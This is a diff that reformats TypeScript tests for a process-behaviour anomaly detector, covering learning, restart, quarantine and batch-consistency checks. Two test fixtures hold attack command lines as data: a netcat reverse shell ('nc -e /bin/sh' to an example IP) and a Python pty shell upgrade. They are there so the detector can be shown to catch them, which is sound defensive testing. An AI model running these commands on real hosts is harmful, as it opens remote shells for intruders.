@@ -29,7 +29,18 @@ function processRow(time: number, exe: string, cmdline: string, parentPath: stri
     host: 'build-07',
     time,
     action: 'added',
-    columns: { pid: String(pid), path: exe, cmdline, parent: '1', auid, uid: auid, euid: auid, cwd: '/home/bob/src', parent_path: parentPath, time: String(time) },
+    columns: {
+      pid: String(pid),
+      path: exe,
+      cmdline,
+      parent: '1',
+      auid,
+      uid: auid,
+      euid: auid,
+      cwd: '/home/bob/src',
+      parent_path: parentPath,
+      time: String(time),
+    },
     decorations: {},
   };
 }
@@ -56,7 +67,10 @@ t.test('learning, monitoring, a planted deviation, feedback, restart', async (t)
   scorer.setUsers(users);
 
   const first = await scorer.scoreRows(normalDay(r, 0, 300));
-  t.ok(first.every((s) => s.verdict === 'learning' && s.score === null), 'a new subject is learning: no score, no bad');
+  t.ok(
+    first.every((s) => s.verdict === 'learning' && s.score === null),
+    'a new subject is learning: no score, no bad',
+  );
   t.equal(first[0].subject, 'bob', 'auid 1000 resolved to bob through the users table');
 
   await scorer.scoreRows(normalDay(r, 1, 300));
@@ -82,8 +96,13 @@ t.test('learning, monitoring, a planted deviation, feedback, restart', async (t)
   scorer.save();
   scorer = await Scorer.open({ config: config(dir), stateDir: dir });
   scorer.setUsers(users);
-  t.ok(scorer.summaries().some((s) => s.subject === 'bob@build-07' && s.state === 'monitoring'), 'bob resumes monitoring after a restart');
-  const [afterRestart] = await scorer.scoreRows([processRow(attackTime + 120, '/usr/bin/python3', "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", '/usr/bin/nc', 4242)]);
+  t.ok(
+    scorer.summaries().some((s) => s.subject === 'bob@build-07' && s.state === 'monitoring'),
+    'bob resumes monitoring after a restart',
+  );
+  const [afterRestart] = await scorer.scoreRows([
+    processRow(attackTime + 120, '/usr/bin/python3', 'python3 -c \'import pty;pty.spawn("/bin/sh")\'', '/usr/bin/nc', 4242),
+  ]);
   t.equal(afterRestart.verdict, 'bad', `a new deviation after the restart is still caught (score ${afterRestart.score})`);
 });
 
@@ -95,7 +114,10 @@ t.test('a corrupt subject file is quarantined and the subject relearns, loudly',
   const messages: string[] = [];
   const scorer = await Scorer.open({ config: config(dir), stateDir: dir, log: (level, msg) => messages.push(`${level}: ${msg}`) });
   t.equal(scorer.subjectCount, 0, 'nothing half-loaded');
-  t.ok(messages.some((m) => m.startsWith('error:') && m.includes('alice.json')), `the error names the file: ${messages.join(' | ')}`);
+  t.ok(
+    messages.some((m) => m.startsWith('error:') && m.includes('alice.json')),
+    `the error names the file: ${messages.join(' | ')}`,
+  );
   const quarantined = fs.readdirSync(path.join(dir, 'subjects', 'quarantine'));
   t.equal(quarantined.length, 1, 'the corrupt file was moved to quarantine');
   t.notOk(fs.existsSync(path.join(dir, 'subjects', 'alice.json')), 'and is gone from where it would be loaded again');
@@ -109,7 +131,15 @@ t.test('the same log gives the same scores however it is cut into batches', asyn
   for (let day = 0; day < 6; day++) rows.push(...normalDay(r, day, 160));
   rows.push(processRow(START + 6 * 24 * HOUR + 10 * HOUR, '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/bin/bash', 4242));
   rows.push(...normalDay(r, 7, 160));
-  const cfg = resolveConfig({ learning: { min_events: 300, min_days: 1 }, retrain: { interval_seconds: 12 * HOUR, window_events: 2000 }, models: { rarity: true, ocsvm: true, lstm: true } }, 'test', {});
+  const cfg = resolveConfig(
+    {
+      learning: { min_events: 300, min_days: 1 },
+      retrain: { interval_seconds: 12 * HOUR, window_events: 2000 },
+      models: { rarity: true, ocsvm: true, lstm: true },
+    },
+    'test',
+    {},
+  );
   const run = async (batch: number) => {
     const scorer = await Scorer.open({ config: cfg, stateDir: null, modelOptions: { lstm: { units: 8, epochs: 1 } } });
     const scores: Array<number | null> = [];
